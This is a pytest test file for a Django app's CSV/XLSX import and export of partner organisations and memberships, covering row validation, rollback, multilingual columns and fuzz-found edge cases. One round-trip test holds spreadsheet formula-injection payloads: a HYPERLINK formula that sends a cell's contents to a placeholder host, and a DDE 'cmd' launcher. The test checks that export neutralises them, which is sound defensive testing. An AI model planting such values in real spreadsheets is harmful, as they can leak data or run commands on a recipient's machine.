"""Spreadsheets in and out: a dry run lists every bad row with its reason, nothing is written
unless the whole file is valid, and exporting then re-importing changes nothing."""

import datetime

import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from allas.translation import columns
from partners.imports import MembershipResource, PartnerResource
from partners.models import Membership, Partner
from tests import factories

pytestmark = pytest.mark.django_db

PARTNERS_CSV = """slug,name,short_name,kind,institution_type,country,locality,is_public
montevideo,Montevideo,,city,,UY,,1
famsi,Fondo Andaluz de Municipios,FAMSI,network,,Spain,Sevilla,1
eu,European Union,EU,institution,funder,BE,Brussels,1
"""


def dataset(text):
    return tablib.Dataset().load(text, format="csv")


def row_errors(result):
    """{row number: [messages]} for every invalid or failing row (numbers start at 1)."""
    errors = {}
    for invalid in result.invalid_rows:
        errors.setdefault(invalid.number, []).extend(
            message for messages in invalid.error_dict.values() for message in messages
        )
    for number, row_errors_ in result.row_errors():
        errors.setdefault(number, []).extend(str(error.error) for error in row_errors_)
    return errors


def test_a_valid_partners_file_imports():
    result = PartnerResource().import_data(dataset(PARTNERS_CSV), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["new"] == 3
    famsi = Partner.objects.get(slug="famsi")
    assert (famsi.kind, famsi.country.code, famsi.region) == ("network", "ES", "europe")
    assert Partner.objects.get(slug="eu").institution_type == "funder"


def test_a_dry_run_lists_each_bad_row_with_its_reason_and_writes_nothing():
    text = PARTNERS_CSV + (
        "atlantis,Atlantis,,city,,Atlantis,,1\n"
        "nowhere,Nowhere,,village,,UY,,1\n"
        "uni,Some university,,institution,,UY,,1\n"
    )
    result = PartnerResource().import_data(dataset(text), dry_run=True)
    errors = row_errors(result)
    assert set(errors) == {4, 5, 6}
    assert any("Unknown country “Atlantis”" in m for m in errors[4])
    assert any("Unknown value “village”" in m for m in errors[5])
    assert any("Choose the type of institution." in m for m in errors[6])
    assert [row.import_type for row in result.rows[:3]] == ["new", "new", "new"]
    assert not Partner.objects.exists()


def test_a_file_with_one_bad_row_writes_nothing_even_when_confirmed():
    text = PARTNERS_CSV + "atlantis,Atlantis,,city,,Atlantis,,1\n"
    PartnerResource().import_data(
        dataset(text), dry_run=False, use_transactions=True, rollback_on_validation_errors=True
    )
    assert not Partner.objects.exists()


MEMBERSHIPS_CSV = """member,network,role,joined_on,left_on,note
montevideo,al-las,partner,2013-05-01,2016-12-31,first period
montevideo,al-las,associate,2018-01-01,,second period
quito,al-las,partner,2013-05-01,,
"""


def test_memberships_import_with_their_historical_periods(partner_a, partner_b, network):
    result = MembershipResource().import_data(dataset(MEMBERSHIPS_CSV), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
    periods = list(
        Membership.objects.filter(member=partner_a)
        .order_by("joined_on")
        .values_list("role", "joined_on", "left_on")
    )
    assert periods == [
        ("partner", datetime.date(2013, 5, 1), datetime.date(2016, 12, 31)),
        ("associate", datetime.date(2018, 1, 1), None),
    ]


def test_membership_rows_with_unknown_partners_bad_dates_or_overlaps_are_reported(
    partner_a, partner_b, network
):
    text = MEMBERSHIPS_CSV + (
        "lisboa,al-las,partner,2013-05-01,,\n"
        "quito,al-las,partner,01/05/2014,,\n"
        "montevideo,al-las,partner,2015-01-01,2015-06-01,\n"
        "quito,montevideo,partner,2014-01-01,,\n"
    )
    result = MembershipResource().import_data(dataset(text), dry_run=True)
    errors = row_errors(result)
    assert set(errors) == {4, 5, 6, 7}
    assert any("Unknown partner “lisboa”" in m for m in errors[4])
    assert any("Bad date format “01/05/2014”" in m for m in errors[5])
    assert any("overlaps another membership" in m for m in errors[6])
    assert any("Only a network of local governments can have members." in m for m in errors[7])
    assert not Membership.objects.exists()


def snapshot(model):
    return sorted(model.objects.values_list(*[f.attname for f in model._meta.concrete_fields]))


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_exporting_and_reimporting_partners_and_memberships_changes_nothing(
    file_format, partner_a, partner_b, network
):
    factories.make_partner(
        kind="institution",
        institution_type="funder",
        slug="eu",
        country="BE",
        latitude="50.85045",
        longitude="4.34878",
        website="https://europa.eu",
        # Written behind a ' on export (no live formula), read back without it.
        name='=HYPERLINK("http://x?x="&B3,"Open")',
        short_name="'=x",
        description="@SUM(A1)",
        note="-2+3+cmd|' /C calc'!A0",
    )
    factories.make_partner(
        kind="network",
        slug="cglu",
        country="ES",
        name="United Cities and Local Governments",
        short_name="UCLG",
        official_name_es="Ciudades y Gobiernos Locales Unidos",
        official_short_name_es="CGLU",
        official_name_fr="Cités et Gouvernements Locaux Unis",
        official_short_name_fr="CGLU",
        official_name_pt="Cidades e Governos Locais Unidos",
        original_language="pt",
        description_pt="Rede mundial de cidades: cooperação, formação e «advocacy».",
        description_es="Red mundial de ciudades: cooperación y formación.",
        description_fr="Réseau mondial des villes : coopération, « plaidoyer », été.",
    )
    factories.make_membership(
        member=partner_a, network=network, left_on=datetime.date(2016, 12, 31), note="\tx"
    )
    factories.make_membership(
        member=partner_a, network=network, joined_on=datetime.date(2018, 1, 1)
    )
    for resource in (PartnerResource(), MembershipResource()):
        model = resource._meta.model
        before = snapshot(model)
        exported = resource.export().export(file_format)
        data = tablib.Dataset().load(exported, format=file_format)
        result = type(resource)().import_data(data, dry_run=False)
        assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
        assert {row.import_type for row in result.rows} == {"skip"}
        assert snapshot(model) == before


def test_a_partners_export_has_the_original_language_and_a_column_per_language():
    factories.make_partner(slug="cglu", original_language="fr", description="Réseau mondial")
    headers = PartnerResource().export().headers
    assert headers[3:11] == columns("official_name", "official_short_name")
    start = headers.index("original_language")
    assert headers[start : start + 5] == ["original_language", *columns("description")]
    assert "description" not in headers
    row = PartnerResource().export().dict[0]
    assert (row["original_language"], row["description_fr"]) == ("fr", "Réseau mondial")
    assert row["description_es"] == ""


def test_partners_import_their_texts_and_official_names_per_language():
    text = (
        "slug,name,kind,country,original_language,official_short_name_fr,"
        "description_es,description_pt\n"
        'recife,Recife,city,BR,pt,,Ciudad de Pernambuco,"Cidade de Pernambuco, à beira-mar"\n'
        "cglu,United Cities and Local Governments,network,ES,English,CGLU,,\n"
    )
    result = PartnerResource().import_data(dataset(text), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
    recife = Partner.objects.get(slug="recife")
    assert recife.original_language == "pt"
    assert (recife.description_pt, recife.description_es, recife.description_fr) == (
        "Cidade de Pernambuco, à beira-mar",
        "Ciudad de Pernambuco",
        "",
    )
    cglu = Partner.objects.get(slug="cglu")
    assert (cglu.original_language, cglu.official_short_name_fr) == ("en", "CGLU")


def test_an_empty_original_language_keeps_the_partners_language():
    factories.make_partner(slug="recife", original_language="pt", description="Cidade")
    text = "slug,name,kind,country,original_language,description_fr\n"
    text += "recife,Recife,city,BR,,Ville du Brésil\n"
    result = PartnerResource().import_data(dataset(text), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
    recife = Partner.objects.get(slug="recife")
    assert (recife.original_language, recife.description_pt, recife.description_fr) == (
        "pt",
        "Cidade",
        "Ville du Brésil",
    )


@pytest.mark.parametrize("value", ["pt", " PT ", "Portuguese", "português", "Portugués"])
def test_the_original_language_is_read_by_its_code_or_name(value):
    text = f"slug,name,kind,country,original_language\nrecife,Recife,city,BR,{value}\n"
    with translation.override("es"):
        result = PartnerResource().import_data(dataset(text), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
    assert Partner.objects.get(slug="recife").original_language == "pt"


def test_an_unknown_original_language_is_reported_on_its_row():
    text = "slug,name,kind,country,original_language\nrecife,Recife,city,BR,klingon\n"
    result = PartnerResource().import_data(dataset(text), dry_run=True)
    errors = row_errors(result)
    assert errors == {1: ["Unknown value “klingon”; use one of: es, pt, fr, en."]}
    assert result.invalid_rows[0].field_specific_errors.keys() == {"original_language"}


def test_a_file_with_a_plain_description_column_fills_the_original_language():
    """Files written before texts had languages (a ``description`` column) still import."""
    factories.make_partner(slug="recife", original_language="pt", description_pt="Antes")
    text = (
        "slug,name,kind,country,original_language,description\n"
        "recife,Recife,city,BR,,Cidade do Nordeste\n"
        "lyon,Lyon,city,FR,fr,Ville de la Région\n"
        "lima,Lima,city,PE,,Ciudad de los Reyes\n"
    )
    result = PartnerResource().import_data(dataset(text), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
    texts = {
        p.slug: (p.original_language, p.description_es, p.description_pt, p.description_fr)
        for p in Partner.objects.all()
    }
    assert texts == {
        "recife": ("pt", "", "Cidade do Nordeste", ""),
        "lyon": ("fr", "", "", "Ville de la Région"),
        "lima": ("es", "Ciudad de los Reyes", "", ""),
    }


def test_a_row_giving_the_original_text_twice_differently_is_refused():
    text = (
        "slug,name,kind,country,description,description_es\n"
        "lima,Lima,city,PE,Ciudad,Ciudad\n"
        "quito,Quito,city,EC,Ciudad,Capital\n"
    )
    result = PartnerResource().import_data(dataset(text), dry_run=True)
    assert row_errors(result) == {
        2: [
            "“description” and “description_es” both give the text in Spanish; "
            "keep one of the two columns."
        ]
    }


def test_a_coordinator_previews_an_import_in_the_admin_then_confirms_it(coordinator_client):
    coordinator_client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    url = reverse("admin:partners_partner_import")
    bad = PARTNERS_CSV + "atlantis,Atlantis,,city,,Atlantis,,1\n"
    response = coordinator_client.post(
        url,
        {"format": "0", "import_file": SimpleUploadedFile("partners.csv", bad.encode())},
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "Unknown country “Atlantis”" in html
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    assert not Partner.objects.exists()

    response = coordinator_client.post(
        url,
        {"format": "0", "import_file": SimpleUploadedFile("partners.csv", PARTNERS_CSV.encode())},
    )
    confirm = response.context["confirm_form"]
    assert [row.import_type for row in response.context["result"].rows] == ["new"] * 3
    assert not Partner.objects.exists()
    response = coordinator_client.post(
        reverse("admin:partners_partner_process_import"), confirm.initial
    )
    assert response.status_code == 302
    assert Partner.objects.count() == 3


def test_an_export_holds_only_the_filtered_rows(coordinator_client, partner_a, network):
    factories.make_partner(slug="lima", name="Lima", country="PE")
    response = coordinator_client.post(
        reverse("admin:partners_partner_export") + "?kind=city&country=PE",
        {"format": "0", "resource": "0"}
        | {f"partnerresource_{name}": "on" for name in ["slug", "name", "kind", "country"]},
    )
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    rows = tablib.Dataset().load(response.content.decode("utf-8-sig"), format="csv")
    assert [row["slug"] for row in rows.dict] == ["lima"]


@pytest.mark.parametrize("field", ["format", "resource"])
@pytest.mark.parametrize("value", ["9" * 5000, "0" * 5000, "²", "١", "99", "x"])
def test_a_forged_import_confirmation_with_an_odd_index_shows_the_form_again(
    coordinator_client, field, value
):
    """Found by the fuzz tests: an index over 4,300 digits, or a digit int() cannot read
    ("²"), was a server error."""
    data = {"import_file_name": "tmpabcdef", "original_file_name": "p.csv", "format": "0"}
    response = coordinator_client.post(
        reverse("admin:partners_partner_process_import"), data | {field: value}
    )
    assert response.status_code == 200
    assert not Partner.objects.exists()


@pytest.mark.parametrize("content", [b"\r\x00", b"\nslug,name\nlima,Lima\n"])
def test_a_file_whose_first_line_is_empty_is_refused_with_a_message(coordinator_client, content):
    """Found by the fuzz tests: rows without headers were a server error."""
    coordinator_client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    response = coordinator_client.post(
        reverse("admin:partners_partner_import"),
        {"format": "0", "import_file": SimpleUploadedFile("cities.csv", content)},
    )
    assert response.status_code == 200
    assert "No valid data to import" in response.content.decode()
    assert not Partner.objects.exists()
